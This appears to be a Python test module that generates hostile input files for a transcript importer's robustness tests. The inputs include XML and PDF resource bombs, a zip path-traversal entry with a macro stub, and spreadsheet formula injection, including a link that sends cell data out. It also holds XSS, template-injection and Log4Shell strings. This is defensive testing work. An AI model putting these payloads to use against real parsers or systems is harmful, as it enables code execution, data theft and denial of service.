"""Hostile transcripts, per format; what tests/transcripts/test_bad_input.py has is not repeated here."""

from __future__ import annotations

import random
import zlib

from tests.hostile import tools
from tests.hostile.case import Case, Expected
from tests.transcripts.builders import W, docx, docx_xml, odt, odt_xml, p, pdf, rtf, zipped

TALK = [
    "Interviewer: Hoe ging dat?",
    "Inwoner: Er kwam nooit meer een brief.",
    "Interviewer: En toen?",
    "Inwoner: Niks.",
]
TEXT = "\n".join(TALK)
GOOD = {
    "docx": docx([p(line) for line in TALK]),
    "odt": odt([p(line) for line in TALK]),
    "rtf": rtf([p(line) for line in TALK]),
    "pdf": pdf([p(line) for line in TALK]),
    "txt": TEXT.encode(),
    "md": "\n\n".join(f"**{line.replace(': ', ':** ', 1)}" for line in TALK).encode(),
    "vtt": b"WEBVTT\n\n00:01.000 --> 00:02.000\n<v I>Hoe ging dat?</v>\n\n00:03.000 --> 00:04.000\n<v R>Niks.</v>\n",
    **tools.GOOD,
    "srt": b"1\n00:00:01,000 --> 00:00:02,000\nI: Hoe ging dat?\n\n2\n00:00:03,000 --> 00:00:04,000\nR: Niks.\n",
}


def noise(seed: str, size: int = 4000) -> bytes:
    return random.Random(seed).randbytes(size)


def talk(middle: str) -> bytes:
    return f"{TALK[0]}\n{TALK[1]} {middle}\n{TALK[2]}\n{TALK[3]}\n".encode("utf-8", "surrogatepass")


def cues(count: int, text: str = "I: Hoe dan?\nR: Zo dus.", *, overlapping: bool = False) -> bytes:
    parts = ["WEBVTT\n"]
    for at in range(count):
        start = 0 if overlapping else at
        parts.append(f"\n{start // 3600:02}:{start // 60 % 60:02}:{start % 60:02}.000 --> 99:00:00.000\n{text}\n")
    return "".join(parts).encode()


def pdf_of(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, at))


def stream(data: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(data, 9)
    return b"<</Length %d/Filter/FlateDecode%s>>\nstream\n%s\nendstream" % (len(packed), extra, packed)


def one_page(content: bytes, resources: bytes = b"", more: list[bytes] | None = None) -> bytes:
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%s>>>>"
        % resources
    )
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", pages, page, stream(content), font, *(more or [])])


def nested_forms() -> bytes:
    names = [b"/X%d %d 0 R" % (n, 6 + n) for n in range(12)]
    forms = []
    for n in range(12):
        inside = b"/X%d Do " % (n + 1) * 10 if n < 11 else b"BT /F1 9 Tf (ha) Tj ET "
        resources = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<<%s>>>>" % b"".join(names)
        forms.append(stream(inside, resources))
    return one_page(b"/X0 Do", b"/XObject<<%s>>" % b"".join(names), forms)


def styles(count: int) -> bytes:
    chain = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(count))
    body = (
        f"<w:document xmlns:w='{W}'><w:body>"
        + "<w:p><w:r><w:t>I: Hoe?</w:t></w:r></w:p>" * 4
        + "</w:body></w:document>"
    )
    return zipped({"word/document.xml": body, "word/styles.xml": f"<w:styles xmlns:w='{W}'>{chain}</w:styles>"})


def default_attributes() -> bytes:
    head = f'<!DOCTYPE d [<!ATTLIST p big CDATA "{"x" * 100_000}">]>'
    return zipped({"word/document.xml": f"{head}<d>{'<p/>' * 100_000}</d>"})


def macros() -> bytes:
    good = docx([p(line) for line in TALK])
    import io
    import zipfile

    parts = {
        entry: zipfile.ZipFile(io.BytesIO(good)).read(entry) for entry in zipfile.ZipFile(io.BytesIO(good)).namelist()
    }
    return zipped(
        parts | {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Auto_Open", "../../../tmp/uit-de-map.txt": b"x"}
    )


_READABLE = ("rechts-naar-links.txt", "geen-tekens.txt", "formules.txt", "script.txt", "markdown.md", "sjabloon.txt")


def _cases() -> list[Case]:
    found: list[Case] = []

    def add(name: str, reason: str, data, expected: Expected = "either") -> None:
        found.append(Case(f"transcripts/{name}", reason, data if callable(data) else lambda: data, expected))

    for suffix, data in GOOD.items():
        add(f"afgekapt.{suffix}", "truncated halfway", data[: len(data) // 2])
        add(f"ruis.{suffix}", "random bytes", noise(suffix))
        add(f"kop-en-ruis.{suffix}", "begins as the format, goes on as random bytes", data[:60] + noise(suffix + "2"))
        for other in ("txt", "docx", "pdf", "vtt"):
            if other != suffix:
                add(
                    f"eigenlijk-{suffix}-als.{other}.{other}",
                    "wrong extension",
                    data,
                    "either" if suffix == "srt" else "read",
                )
    add("macros-en-pad.docx", "has macros, and a part whose name leads out of the folder", macros, "read")
    add(
        "standaardwaarden.docx",
        "a default attribute of 100 kB on 100,000 elements: 10 GB",
        default_attributes,
        "refused",
    )
    for case in tools.HOSTILE:
        add(*case)
    add("stijlketen.docx", "a chain of 20,000 styles, each based on the next", lambda: styles(20_000))
    add("miljoen-alineas.docx", "two million empty paragraphs", lambda: docx_xml("<w:p/>" * 2_000_000), "refused")
    add(
        "diep.docx", "runs nested 100,000 deep", lambda: docx_xml("<w:ins>" * 100_000 + "</w:ins>" * 100_000), "refused"
    )
    add(
        "brede-tabel.docx",
        "one row of 5,000 cells above 5,000 rows of one",
        lambda: docx_xml(
            "<w:tbl><w:tr>"
            + "<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>" * 5000
            + "</w:tr>"
            + "<w:tr><w:tc><w:p><w:r><w:t>b</w:t></w:r></w:p></w:tc></w:tr>" * 5000
            + "</w:tbl>"
        ),
    )
    add(
        "gewiste-einden.docx",
        "30,000 paragraphs flowing into one",
        lambda: docx_xml("<w:p><w:pPr><w:rPr><w:del/></w:rPr></w:pPr><w:r><w:t>a </w:t></w:r></w:p>" * 30_000),
    )
    add(
        "diep.odt",
        "sections nested 50,000 deep",
        lambda: odt_xml("<text:section>" * 50_000 + "</text:section>" * 50_000),
        "refused",
    )
    add("amp.odt", "three million entities", lambda: odt_xml(f"<text:p>{'&amp;' * 3_000_000}</text:p>"), "refused")
    add(
        "stijlen.rtf",
        "100,000 styles in one group",
        lambda: b"{\\rtf1 " + b"".join(b"\\s%d" % n for n in range(100_000)) + b" I: x}",
    )
    add("letters.rtf", "200,000 letters, each a control word", lambda: b"{\\rtf1 " + b"\\'e9" * 200_000 + b"}")
    add("woorden.rtf", "eight million control words", lambda: b"{\\rtf1 " + b"\\b" * 8_000_000 + b"}", "refused")
    add(
        "halve-tekens.rtf",
        "lone surrogates",
        b"{\\rtf1 I: Hoe \\u-10179? dan?\\par R: Zo \\u-8704?.\\par I: En?\\par R: Niks.}",
        "read",
    )
    add("bin.rtf", "a block of binary data that ends after the file", b"{\\rtf1 I: Hoe?\\par R: Zo.\\bin999999999 }")
    add("formulieren.pdf", "forms that draw forms: 10^11 words", nested_forms, "refused")
    add("bom.pdf", "a page that unpacks to 60 MB", lambda: one_page(b"BT (a) Tj ET " * 5_000_000), "refused")
    add(
        "kring.pdf",
        "a page tree that holds itself",
        pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
    )
    add(
        "teveel-paginas.pdf",
        "says that it has a billion pages",
        pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 1000000000>>"]),
    )
    add("haakjes.vtt", "a tag of 20,000 letters that never closes", cues(3, "I: <" + "a" * 20_000), "either")
    add(
        "open-tags.vtt",
        "100,000 formats that nobody closes",
        lambda: cues(3, "".join(f"<c.k{n}>" for n in range(100_000)) + "I: Hoe?"),
    )
    add("lange-cues.vtt", "neighbouring cues of 100,000 equal words", lambda: cues(3, "I: " + "ja " * 100_000 + "nee"))
    add("overlappend.vtt", "20,000 cues that all overlap", lambda: cues(20_000, overlapping=True))
    add(
        "terug-in-de-tijd.srt",
        "ends before it begins",
        b"1\n00:59:00,000 --> 00:00:01,000\nI: Hoe?\n\n2\n99:99:99,999 --> 00:00:00,000\nR: Zo.\n",
    )
    add("veel-cues.vtt", "60,000 cues", lambda: cues(60_000, "R: a"), "refused")
    add(
        "stemmen.vtt",
        "30,000 voices",
        lambda: b"WEBVTT\n" + b"".join(b"\n00:01.000 --> 00:02.000\n<v Jan%d>Ja.\n" % n for n in range(30_000)),
        "refused",
    )
    for name, reason, data in [
        ("nullen.txt", "null bytes between the words", "nul\x00len\x00"),
        (
            "rechts-naar-links.txt",
            "marks that turn the order of the letters round",
            "\u202egnitset\u202c \u200f\u2067x\u2069",
        ),
        ("emoji.txt", "emoji, joined and with skin colours", "👩🏽‍🚒🇳🇱" * 50),
        ("halve-tekens.txt", "lone surrogates in what should be UTF-8", "\ud83d \udc00 x"),
        ("geen-tekens.txt", "code points that XML forbids", "\ufffe\uffff\x0b\x0c x"),
        ("zalgo.txt", "10,000 accents on one letter", "a" + "\u0301" * 10_000),
        ("formules.txt", "formulas in speech", "=HYPERLINK(\"http://x.nl?\"&A1) =cmd|' /C calc'!A0"),
        ("script.txt", "script in speech", '<script>alert(1)</script><img src=x onerror="alert(2)">'),
        ("markdown.md", "links and pictures in speech", "![x](http://x.nl/y.png) [klik](javascript:alert(1))"),
        ("sjabloon.txt", "templates in speech", "{{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://x}"),
    ]:
        add(name, reason, talk(data), "read" if name in _READABLE else "either")
    for name, reason, line in [
        ("spaties.txt", "a million spaces in a line", " " * 1_000_000 + "x"),
        ("sterren.md", "300,000 asterisks", "*" * 300_000 + "a"),
        ("sterren-los.md", "150,000 openings of bold without an end", " **a" * 150_000),
        ("haken.md", "500,000 opening brackets", "[" * 500_000),
        ("opmerkingen.md", "200,000 comments without an end", "<!--" * 200_000),
        ("hekjes.md", "a heading of 500,000 hashes", "# " + "#" * 500_000 + "a"),
        ("lang-woord.txt", "a word of a million letters", "a" * 900_000 + "-"),
        ("tijden.txt", "100,000 time stamps", "[00:01:02] " * 80_000),
        ("streepjes.txt", "80,000 lines of one letter after a dash", "\n- ja?" * 80_000),
        ("regels.txt", "90,000 lines of one letter", "\na" * 90_000),
        ("labels.txt", "40,000 labels used twice", "".join(f"\nJan{n}: ja.\nJan{n}: nee." for n in range(40_000))),
        ("labels-los.txt", "80,000 labels used once", "".join(f"\nKijk eens{n}: ja." for n in range(60_000))),
        ("een-spreker.txt", "60,000 lines of one speaker", "\nInwoner: ja." * 60_000),
    ]:
        add(name, reason, lambda line=line: talk(line))
    add("utf16.txt", "UTF-16 cut in the middle of a letter", TEXT.encode("utf-16")[:-1])
    add("utf32.txt", "UTF-32 with impossible code points", b"\xff\xfe\x00\x00" + b"\xff\xff\xff\x7f" * 100)
    return found


CASES = _cases()
BIG = [
    Case(
        "transcripts/honderd-mb.txt",
        "100 MB of talk",
        lambda: (TEXT + "\n").encode() * (100 * 1024 * 1024 // len(TEXT)),
    ),
    Case(
        "transcripts/vijftig-mb.txt",
        "just under 50 MB of talk",
        lambda: (TEXT + "\n").encode() * (49 * 1024 * 1024 // len(TEXT)),
    ),
    Case(
        "transcripts/miljoen-cues.srt",
        "a million cues",
        lambda: b"".join(b"%d\n00:00:01,000 --> 00:00:02,000\nI: ja\n\n" % n for n in range(1_000_000)),
    ),
]
